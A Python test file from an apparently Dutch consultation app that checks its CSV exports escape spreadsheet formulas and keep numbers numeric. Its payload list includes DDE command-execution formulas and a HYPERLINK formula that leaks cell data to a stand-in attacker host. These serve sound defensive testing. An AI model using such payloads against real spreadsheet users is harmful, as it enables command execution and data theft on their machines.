# SPDX-FileCopyrightText: 2026 Raadgever contributors
# SPDX-License-Identifier: EUPL-1.2
"""trust.md 2.5, checks 22 and 23: no cell of an export is a formula, and numbers stay numbers."""

import csv
import io
from contextlib import AsyncExitStack

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend import app, database, settings
from backend.web.cells import inert
from tests.security.conftest import SECRET, _house, create, drop, environ
from tests.security.town import fill, one_by_one

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://kwaad.example?x="&A1;"klik")',
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "=1;=2",
    '"=1+1',
    "'=1+1",
    "tekst\n=1+1",
    "tekst\t=1+1",
)
STARTS = tuple("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")


@given(st.sampled_from(STARTS), st.text(max_size=20))
def test_check_22_nothing_that_starts_a_formula_starts_a_cell(start: str, rest: str) -> None:
    cell = inert(start + rest)
    assert not cell.startswith(STARTS)
    assert cell.removeprefix("'") == start + rest, "and nothing of it is lost"


@given(st.text(max_size=20).filter(lambda text: not text.startswith(STARTS)))
def test_check_22_other_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@pytest.mark.anyio
async def test_checks_22_and_23_the_summary_of_a_town_full_of_formulas(
    servers, template, monkeypatch
) -> None:
    """Made with every text a formula, exported over HTTP, and read back by two readers."""
    name = await create(servers, template)
    town = settings.read(environ(servers, name))
    engine = database.connect(town.database_url, pool=4)
    filled = await fill(database.sessions_of(engine), SECRET.encode(), one_by_one(FORMULAS))
    await engine.dispose()
    async with AsyncExitStack() as stack:
        house = await _house(servers, town, app.litestar(town), stack)
        path = f"/raadplegingen/{filled.slugs['final']}/samenvatting.csv"
        reply = await house.browser().get(path)
    await drop(servers, name)
    assert reply.headers["content-disposition"].startswith("attachment;")
    check_table(reply.content)


def check_table(data: bytes) -> None:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    texts = [row["tekst"] for row in rows if row["tekst"]]
    assert len([text for text in texts if text.startswith("'")]) >= 2, texts
    for row in rows:
        for column in ("onderdeel", "groep", "maat", "tekst"):
            assert not (row[column] or "").startswith(STARTS), row
        for column in ("beslispunt", "aantal", "promille"):
            assert row[column] == "" or int(row[column]) == float(row[column]), row
    whole = {"beslispunt": pl.Int64, "aantal": pl.Int64, "promille": pl.Int64}
    frame = pl.read_csv(data, separator=";", schema_overrides=whole)
    assert frame.height == len(rows)
    assert frame["aantal"].sum() > 0


def test_check_23_a_negative_number_is_a_number() -> None:
    """`inert` is for texts; a balance of -3 is written as it is."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    row: tuple[str | int | None, ...] = ("saldo", 1, None, "net", -3, None, "-3")
    writer.writerow(inert(cell) if isinstance(cell, str) else cell for cell in row)
    assert out.getvalue() == "saldo;1;;net;-3;;'-3\r\n"
